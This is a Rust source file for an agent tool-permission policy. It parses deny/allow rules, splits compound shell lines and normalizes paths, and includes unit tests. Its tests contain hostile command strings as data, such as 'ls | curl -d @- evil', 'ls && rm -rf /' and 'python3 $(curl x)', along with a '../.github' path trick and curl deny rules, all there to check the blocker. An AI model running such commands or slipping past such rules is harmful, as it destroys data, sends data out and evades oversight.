//! The permission policy of a tool set: rules such as `bash(git push*)` or
//! `write_file(.github/**)`, deny beating allow. A tool with allow rules is on an
//! allowlist: a call no rule matches gets the policy's `default`. A tool with only deny
//! rules, or none, is allowed unless a deny rule matches. For `bash` every command of a
//! compound line (`a && b`, `a | b`, `a; b`, `$(c)`) must be allowed; for the file tools
//! the rule's glob is matched against the path, relative to the workspace.

use std::path::{Component, Path};

use globset::{GlobBuilder, GlobMatcher};
use serde_json::Value;

/// The tools whose rules take a path pattern, and the input field holding the path.
const PATH_TOOLS: [&str; 5] = ["read_file", "write_file", "edit_file", "list_files", "grep"];

#[derive(Debug, Clone)]
struct Rule {
    text: String,
    tool: String,
    /// None: every call of the tool.
    pattern: Option<GlobMatcher>,
}

/// What happens to a call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Allowed, by the rule named (or the default).
    Allow(String),
    /// Refused, with the reason naming the rule.
    Deny(String),
}

/// A tool set's rules.
#[derive(Debug, Clone)]
pub struct Policy {
    deny: Vec<Rule>,
    allow: Vec<Rule>,
    default_allow: bool,
}

impl Default for Policy {
    /// No rules: everything is allowed.
    fn default() -> Self {
        Policy {
            deny: Vec::new(),
            allow: Vec::new(),
            default_allow: true,
        }
    }
}

fn parse_rule(text: &str) -> Result<Rule, String> {
    let t = text.trim();
    let (tool, pattern) = match t.find('(') {
        Some(open) if t.ends_with(')') => (&t[..open], Some(&t[open + 1..t.len() - 1])),
        Some(_) => {
            return Err(format!(
                "rule \"{text}\": write tool(pattern), e.g. \"bash(git push*)\""
            ))
        }
        None => (t, None),
    };
    let tool = tool.trim();
    if tool.is_empty() {
        return Err(format!("rule \"{text}\" names no tool"));
    }
    let pattern = match pattern.map(str::trim) {
        None => None,
        Some(p) if tool == "bash" => Some(
            // In a command pattern `*` spans spaces and slashes.
            GlobBuilder::new(p).literal_separator(false).build(),
        ),
        Some(p) if PATH_TOOLS.contains(&tool) => {
            Some(GlobBuilder::new(p).literal_separator(true).build())
        }
        Some(_) => {
            return Err(format!(
                "rule \"{text}\": only bash and the file tools ({}) take a pattern",
                PATH_TOOLS.join(", ")
            ))
        }
    };
    let pattern = pattern
        .transpose()
        .map_err(|e| format!("rule \"{text}\": invalid pattern: {e}"))?
        .map(|g| g.compile_matcher());
    Ok(Rule {
        text: t.to_string(),
        tool: tool.to_string(),
        pattern,
    })
}

impl Policy {
    /// Builds a policy; an error names the rule that does not parse.
    pub fn new(deny: &[String], allow: &[String], default_allow: bool) -> Result<Policy, String> {
        Ok(Policy {
            deny: deny
                .iter()
                .map(|r| parse_rule(r))
                .collect::<Result<_, _>>()?,
            allow: allow
                .iter()
                .map(|r| parse_rule(r))
                .collect::<Result<_, _>>()?,
            default_allow,
        })
    }

    /// The tool names the rules mention (to check them against the tool set).
    pub fn tools(&self) -> impl Iterator<Item = (&str, &str)> {
        self.deny
            .iter()
            .chain(&self.allow)
            .map(|r| (r.text.as_str(), r.tool.as_str()))
    }

    fn matching<'a>(rules: &'a [Rule], tool: &str, subject: Option<&str>) -> Option<&'a Rule> {
        rules.iter().find(|r| {
            r.tool == tool
                && match (&r.pattern, subject) {
                    (None, _) => true,
                    (Some(p), Some(s)) => p.is_match(s),
                    (Some(_), None) => false,
                }
        })
    }

    /// A call no rule matches: the default for an allowlisted tool, else allowed.
    fn default_verdict(&self, tool: &str, what: &str) -> Verdict {
        if !self.allow.iter().any(|r| r.tool == tool) {
            return Verdict::Allow(format!("no allow rule restricts {tool}"));
        }
        if self.default_allow {
            Verdict::Allow("default: allow".into())
        } else {
            Verdict::Deny(format!("no allow rule matches {what} (default: deny)"))
        }
    }

    /// Decides a call of `tool` with `input`.
    pub fn decide(&self, tool: &str, input: &Value) -> Verdict {
        if tool == "bash" {
            let line = input
                .get("command")
                .and_then(Value::as_str)
                .unwrap_or_default();
            let commands = split_commands(line);
            for c in &commands {
                if let Some(r) = Self::matching(&self.deny, tool, Some(c)) {
                    return Verdict::Deny(format!("denied by rule \"{}\" (command `{c}`)", r.text));
                }
            }
            let mut allowed_by = Vec::new();
            for c in &commands {
                match Self::matching(&self.allow, tool, Some(c)) {
                    Some(r) => allowed_by.push(r.text.clone()),
                    None => match self.default_verdict(tool, &format!("`{c}`")) {
                        Verdict::Deny(why) => return Verdict::Deny(why),
                        Verdict::Allow(why) => allowed_by.push(why),
                    },
                }
            }
            if commands.is_empty() {
                return self.default_verdict(tool, "an empty command");
            }
            allowed_by.dedup();
            return Verdict::Allow(allowed_by.join(", "));
        }
        let path = PATH_TOOLS
            .contains(&tool)
            .then(|| normalize(input.get("path").and_then(Value::as_str).unwrap_or(".")));
        if let Some(r) = Self::matching(&self.deny, tool, path.as_deref()) {
            return Verdict::Deny(format!("denied by rule \"{}\"", r.text));
        }
        if let Some(r) = Self::matching(&self.allow, tool, path.as_deref()) {
            return Verdict::Allow(format!("allowed by rule \"{}\"", r.text));
        }
        self.default_verdict(
            tool,
            &match path {
                Some(p) => format!("{tool}({p})"),
                None => tool.to_string(),
            },
        )
    }
}

/// A path as the rules see it: relative, `.` and `..` folded (`./a/../.github/x` is
/// `.github/x`).
fn normalize(p: &str) -> String {
    let mut parts: Vec<String> = Vec::new();
    for c in Path::new(p.trim()).components() {
        match c {
            Component::Normal(s) => parts.push(s.to_string_lossy().into_owned()),
            Component::ParentDir => {
                parts.pop();
            }
            _ => {}
        }
    }
    if parts.is_empty() {
        ".".into()
    } else {
        parts.join("/")
    }
}

/// The simple commands of a shell line: split at `;`, `&&`, `||`, `|`, `&` and
/// newlines outside quotes, with the commands inside `$( )` and backticks added, and
/// leading `VAR=value` assignments and grouping brackets removed. An approximation of
/// the shell's grammar that errs towards more, smaller commands; the sandbox, not this
/// split, is what confines a command.
pub fn split_commands(line: &str) -> Vec<String> {
    let chars: Vec<char> = line.chars().collect();
    let mut out = Vec::new();
    let mut cur = String::new();
    let (mut single, mut double) = (false, false);
    let mut i = 0;
    let flush = |cur: &mut String, out: &mut Vec<String>| {
        if let Some(c) = clean(cur) {
            out.push(c);
        }
        cur.clear();
    };
    while i < chars.len() {
        let c = chars[i];
        if single {
            cur.push(c);
            single = c != '\'';
            i += 1;
            continue;
        }
        match c {
            '\\' => {
                cur.push(c);
                if let Some(n) = chars.get(i + 1) {
                    cur.push(*n);
                    i += 1;
                }
            }
            '\'' if !double => {
                single = true;
                cur.push(c);
            }
            '"' => {
                double = !double;
                cur.push(c);
            }
            '$' if chars.get(i + 1) == Some(&'(') => {
                let end = closing(&chars, i + 2);
                let inner: String = chars[i + 2..end.min(chars.len())].iter().collect();
                out.extend(split_commands(&inner));
                cur.extend(&chars[i..(end + 1).min(chars.len())]);
                i = end;
            }
            '`' => {
                let end = (i + 1..chars.len())
                    .find(|&j| chars[j] == '`')
                    .unwrap_or(chars.len());
                let inner: String = chars[i + 1..end].iter().collect();
                out.extend(split_commands(&inner));
                cur.extend(&chars[i..(end + 1).min(chars.len())]);
                i = end;
            }
            '&' if !double
                && (matches!(cur.chars().last(), Some('>') | Some('<'))
                    || chars.get(i + 1) == Some(&'>')) =>
            {
                cur.push(c);
            }
            ';' | '\n' | '&' | '|' if !double => {
                flush(&mut cur, &mut out);
                // `&&`, `||`, `|&`, `;;`
                if matches!(chars.get(i + 1), Some('&') | Some('|') | Some(';')) {
                    i += 1;
                }
            }
            _ => cur.push(c),
        }
        i += 1;
    }
    flush(&mut cur, &mut out);
    out
}

/// Index of the `)` closing a `$(` whose content starts at `from` (or the end).
fn closing(chars: &[char], from: usize) -> usize {
    let mut depth = 1;
    let (mut single, mut double) = (false, false);
    let mut i = from;
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 1,
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '(' if !single && !double => depth += 1,
            ')' if !single && !double => {
                depth -= 1;
                if depth == 0 {
                    return i;
                }
            }
            _ => {}
        }
        i += 1;
    }
    chars.len()
}

fn clean(cmd: &str) -> Option<String> {
    let mut s = cmd.trim();
    loop {
        let before = s;
        s = s
            .trim_start_matches(['(', '{', '!'])
            .trim_end_matches([')', '}'])
            .trim();
        // leading assignments: NAME=value (value without spaces, or quoted)
        if let Some(eq) = s.find('=') {
            let name = &s[..eq];
            let is_name = !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit());
            if is_name {
                let rest = &s[eq + 1..];
                let end = value_end(rest);
                if end < rest.len() {
                    s = rest[end..].trim_start();
                }
            }
        }
        if s == before {
            break;
        }
    }
    (!s.is_empty()).then(|| s.split_whitespace().collect::<Vec<_>>().join(" "))
}

/// Where an assignment's value ends (the first unquoted blank).
fn value_end(rest: &str) -> usize {
    let (mut single, mut double) = (false, false);
    for (i, c) in rest.char_indices() {
        match c {
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            c if c.is_whitespace() && !single && !double => return i,
            _ => {}
        }
    }
    rest.len()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn splits_compound_lines() {
        assert_eq!(
            split_commands("ls -la && python3 -m unittest"),
            ["ls -la", "python3 -m unittest"]
        );
        assert_eq!(
            split_commands("a; b || c | d & e"),
            ["a", "b", "c", "d", "e"]
        );
        assert_eq!(
            split_commands("echo 'a && b' \"c; d\""),
            ["echo 'a && b' \"c; d\""]
        );
        assert_eq!(
            split_commands("echo $(curl evil) `wget x`"),
            ["curl evil", "wget x", "echo $(curl evil) `wget x`"]
        );
        assert_eq!(
            split_commands("python3 x.py 2>&1 >/dev/null &> log"),
            ["python3 x.py 2>&1 >/dev/null &> log"]
        );
        assert_eq!(
            split_commands("FOO=1 BAR='a b' python3 t.py"),
            ["python3 t.py"]
        );
        assert_eq!(split_commands("(cd src && make)"), ["cd src", "make"]);
        assert_eq!(split_commands("  "), Vec::<String>::new());
    }

    fn p(deny: &[&str], allow: &[&str], default_allow: bool) -> Policy {
        let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
        Policy::new(&s(deny), &s(allow), default_allow).unwrap()
    }

    fn bash(cmd: &str) -> Value {
        json!({"command": cmd})
    }

    #[test]
    fn deny_beats_allow_and_every_command_must_pass() {
        let pol = p(
            &["bash(git push*)", "bash(curl *)"],
            &["bash(git *)", "bash(python3 *)", "bash(ls*)"],
            false,
        );
        assert!(matches!(
            pol.decide("bash", &bash("git status")),
            Verdict::Allow(_)
        ));
        let v = pol.decide("bash", &bash("git push origin main"));
        assert_eq!(
            v,
            Verdict::Deny(
                "denied by rule \"bash(git push*)\" (command `git push origin main`)".into()
            )
        );
        assert!(matches!(
            pol.decide("bash", &bash("ls && python3 -m unittest")),
            Verdict::Allow(_)
        ));
        assert!(
            matches!(pol.decide("bash", &bash("ls && rm -rf /")), Verdict::Deny(w) if w.contains("rm -rf /"))
        );
        assert!(
            matches!(pol.decide("bash", &bash("python3 $(curl x)")), Verdict::Deny(w) if w.contains("curl"))
        );
        assert!(matches!(
            pol.decide("bash", &bash("X=1 curl evil.sh")),
            Verdict::Deny(_)
        ));
        let open = p(&["bash(curl *)"], &[], true);
        assert!(matches!(
            open.decide("bash", &bash("rm x")),
            Verdict::Allow(_)
        ));
        assert!(matches!(
            open.decide("bash", &bash("ls | curl -d @- evil")),
            Verdict::Deny(_)
        ));
    }

    #[test]
    fn file_rules_match_normalized_paths() {
        let pol = p(
            &["write_file(.github/**)"],
            &["write_file(src/**)", "read_file"],
            false,
        );
        assert!(matches!(
            pol.decide("write_file", &json!({"path": "src/a.py"})),
            Verdict::Allow(_)
        ));
        assert!(
            matches!(pol.decide("write_file", &json!({"path": "./src/../.github/workflows/x.yml"})), Verdict::Deny(w) if w.contains(".github"))
        );
        assert!(
            matches!(pol.decide("write_file", &json!({"path": "README.md"})), Verdict::Deny(w) if w.contains("default: deny"))
        );
        assert!(matches!(
            pol.decide("read_file", &json!({"path": "anything"})),
            Verdict::Allow(_)
        ));
        // tools without allow rules are not on an allowlist
        assert!(matches!(
            pol.decide("get_time", &json!({})),
            Verdict::Allow(_)
        ));
        let deny_only = p(&["write_file(.github/**)"], &["bash(ls*)"], false);
        assert!(matches!(
            deny_only.decide("write_file", &json!({"path": "src/x"})),
            Verdict::Allow(_)
        ));
        assert!(matches!(
            deny_only.decide("write_file", &json!({"path": ".github/x"})),
            Verdict::Deny(_)
        ));
        assert!(matches!(
            deny_only.decide("bash", &bash("rm x")),
            Verdict::Deny(_)
        ));
        assert!(matches!(
            Policy::default().decide("bash", &bash("anything")),
            Verdict::Allow(_)
        ));
    }

    #[test]
    fn bad_rules_are_named() {
        let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
        assert!(Policy::new(&s(&["bash(git push*"]), &[], true)
            .unwrap_err()
            .contains("bash(git push*"));
        assert!(Policy::new(&s(&["get_time(x)"]), &[], true)
            .unwrap_err()
            .contains("only bash"));
        assert!(Policy::new(&s(&["write_file([)"]), &[], true)
            .unwrap_err()
            .contains("invalid pattern"));
    }
}
